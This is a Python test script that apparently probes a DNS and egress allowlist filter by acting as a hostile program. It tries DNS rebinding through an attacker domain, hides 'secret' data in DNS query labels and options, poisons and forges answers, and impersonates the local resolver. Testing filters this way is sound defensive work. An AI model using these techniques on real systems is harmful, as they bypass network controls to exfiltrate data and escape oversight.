"""Attacks of a hostile program on its list of destinations: names.py NAME

www.test is on its list at port 8000, and so is everything below evil.test, whose nameserver is the attacker's. Each prints what it came to, one line.
"""

import errno
import os
import socket
import struct
import sys
import threading
import time

CLIENT4, CLIENT6, HOST4 = "10.77.0.2", "2001:db8:77::2", "10.77.0.1"
ELSEWHERE = "192.0.2.9"
A, AAAA, TXT = 1, 28, 16


def code(call):
    try:
        call()
    except socket.gaierror as error:
        return f"EAI_{error.errno}"
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, type(error).__name__)
    return "OK"


def tcp(address, port, family=socket.AF_INET):
    with socket.socket(family) as s:
        s.settimeout(5)
        return code(lambda: s.connect((address, port)))


def udp(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        return code(lambda: s.sendto(b"x", (address, port)))


def query(name, kind=A, flags=0x100, extra=b""):
    labels = b"".join(bytes([len(label)]) + label for label in (name if isinstance(name, bytes) else name.encode()).split(b"."))
    return struct.pack(">6H", 7, flags, 1, 0, 0, 1 if extra else 0) + labels + b"\0" + struct.pack(">HH", kind, 1) + extra


def ask(data, server=ELSEWHERE, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect((server, 53))
        s.send(data)
        return s.recv(65535)


def rcode(reply):
    return reply[3] & 15


def raw_addresses():
    """What is answered nowhere: also the address of the allowed name, before it is asked for."""
    return " ".join(
        (tcp(CLIENT4, 8000), tcp(ELSEWHERE, 443), tcp(HOST4, 8000), tcp(CLIENT6, 8000, socket.AF_INET6), udp(CLIENT4, 8000), udp("224.0.0.251", 5353))
    )


def mapped_addresses():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        sent = code(lambda: s.sendto(b"x", (f"::ffff:{CLIENT4}", 8000)))
    return f"{tcp(f'::ffff:{CLIENT4}', 8000, socket.AF_INET6)} {sent}"


def another_port_of_an_allowed_name():
    address = socket.gethostbyname("www.test")
    return f"{tcp(address, 8000)} {tcp(address, 8001)} {udp(address, 8001)}"


def fast_open():
    with socket.socket() as s:
        return code(lambda: s.sendto(b"x", socket.MSG_FASTOPEN, (CLIENT4, 8000)))


def reconnected():
    """A UDP socket that is connected to what is allowed, disconnected, and used anew."""
    address = socket.gethostbyname("www.test")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((address, 8000))
        again = code(lambda: s.connect((address, 8001)))
        return f"{again} {code(lambda: s.sendto(b'x', (ELSEWHERE, 8001)))}"


def other_resolvers():
    """Whoever is asked, it is graft: a name that is refused is refused by all."""
    servers = (("8.8.8.8", socket.AF_INET), ("127.0.0.53", socket.AF_INET), (CLIENT4, socket.AF_INET), ("2001:4860:4860::8888", socket.AF_INET6), ("::1", socket.AF_INET6))
    return " ".join(str(rcode(ask(query("secret.other.test"), server, family))) for server, family in servers)


def resolvers_at_other_ports():
    return f"{tcp('8.8.8.8', 853)} {tcp('8.8.8.8', 443)} {udp('8.8.8.8', 5353)} {udp('8.8.8.8', 443)}"


def what_is_no_query():
    """A response, an update, garbage, two questions, a class that is not IN: nothing of it goes anywhere."""
    told = []
    for data in (query("www.test", flags=0x8100), b"garbage that is no query at all", query("www.test")[:4] + b"\0\2" + query("www.test")[6:]):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.5)
            s.connect((ELSEWHERE, 53))
            s.send(data)
            try:
                told.append(str(rcode(s.recv(999))))
            except TimeoutError:
                told.append("silence")
    told.append(str(rcode(ask(query("www.test")[:-2] + b"\0\3"))))
    return " ".join(told)


def data_in_a_query():
    """In the case of a name, in options, in names that are refused: the nameserver sees none of it."""
    option = struct.pack(">BHHHHH", 0, 41, 1232, 0, 0, 4 + 12) + struct.pack(">HH", 65001, 12) + b"secretoption"
    told = [rcode(ask(query(b"wWw.TeSt", extra=option))), rcode(ask(query("secretlabel.www.test"))), rcode(ask(query("secret.other.test", TXT)))]
    told.append(rcode(ask(query("5.4.3.2.in-addr.arpa", 12))))
    return " ".join(map(str, told))


def rebinding():
    """A name of the attacker's first has a good address, then that of the host, of metadata, of a neighbour."""
    told = []
    for name in ("good", "loop", "host", "meta", "next", "mapped"):
        try:
            found = {e[4][0] for e in socket.getaddrinfo(f"{name}.evil.test", 8000, type=socket.SOCK_STREAM)}
        except socket.gaierror as error:
            told.append(f"EAI_{error.errno}")
        else:
            told += [tcp(address, 8000) for address in found]
    return " ".join([*told, tcp(HOST4, 8000), tcp("10.88.7.7", 8000)])


def ttl_of_nothing():
    """A TTL of 0 leaves time to connect, and no more than other answers."""
    return " ".join(tcp(socket.gethostbyname("zero.evil.test"), 8000) for _ in range(5))


def poisoned_chain():
    """The attacker's answer has addresses for names that are not its own."""
    first = rcode(ask(query("poison.evil.test")))
    return f"{first} {code(lambda: socket.getaddrinfo('bank.test', 8000))} {tcp('203.0.113.7', 8000)} {tcp('203.0.113.8', 8000)}"


def chain_without_an_end():
    return f"{rcode(ask(query('loop1.evil.test')))} {code(lambda: socket.create_connection(('www.test', 8000), 5).close())}"


def giant_answers():
    """64 KiB of addresses by TCP: the first ones are told, and graftd answers others meanwhile."""
    began = time.monotonic()
    with socket.create_connection((ELSEWHERE, 53), 10) as s:
        data = query("giant.evil.test")
        s.sendall(struct.pack(">H", len(data)) + data)
        stream = s.makefile("rb")
        reply = stream.read(int.from_bytes(stream.read(2), "big"))
    return f"{rcode(reply)} {int.from_bytes(reply[6:8], 'big') <= 256} {code(lambda: socket.gethostbyname('www.test'))} {time.monotonic() - began < 5}"


def names_of_a_wildcard():
    """Thousands of names, each with an address of its own: what graftd keeps has a limit, and the last one is open."""
    failed, lock = [], threading.Lock()

    def some(first):
        for n in range(first, int(sys.argv[2]), 4):
            try:
                ask(query(f"n{n}.many.evil.test"))
                ask(query(f"n{n}.refused.test"))
            except OSError:
                with lock:
                    failed.append(n)

    threads = [threading.Thread(target=some, args=(n,)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return f"{len(failed) < 50} {tcp(socket.gethostbyname('www.test'), 8000)}"


def forged_answers():
    """Answers to queries that nobody has asked, to the ports where graftd may wait."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        told = {code(lambda port=port: s.sendto(b"x" * 40, ("127.0.0.11", port))) for port in range(32768, 33000)}
    return " ".join(sorted(told))


def resolver_by_its_own_address():
    """graft's resolver has an address in the slices; at other ports there is nobody."""
    return f"{tcp('fd67:7261:6674::b', 54, socket.AF_INET6)} {udp('fd67:7261:6674::b', 54, socket.AF_INET6)} {rcode(ask(query('x.other.test'), 'fd67:7261:6674::b', socket.AF_INET6))}"


def takes_the_resolvers_place():
    """A server of the container's own at 127.0.0.11 answers itself, and pins nothing."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as c:
        if code(lambda: u.bind(("127.0.0.11", 53))) != "OK":
            return "refused"
        c.settimeout(5)
        c.connect(("127.0.0.11", 53))
        c.send(query("www.test"))
        data, client = u.recvfrom(999)
        u.sendto(data[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + data[12:] + b"\xc0\x0c\0\1\0\1\0\0\0\5\0\4" + socket.inet_aton(ELSEWHERE), client)
        c.recv(999)
    return tcp(ELSEWHERE, 8000)


if __name__ == "__main__":
    print(globals()[sys.argv[1]](), flush=True)
    os._exit(0)
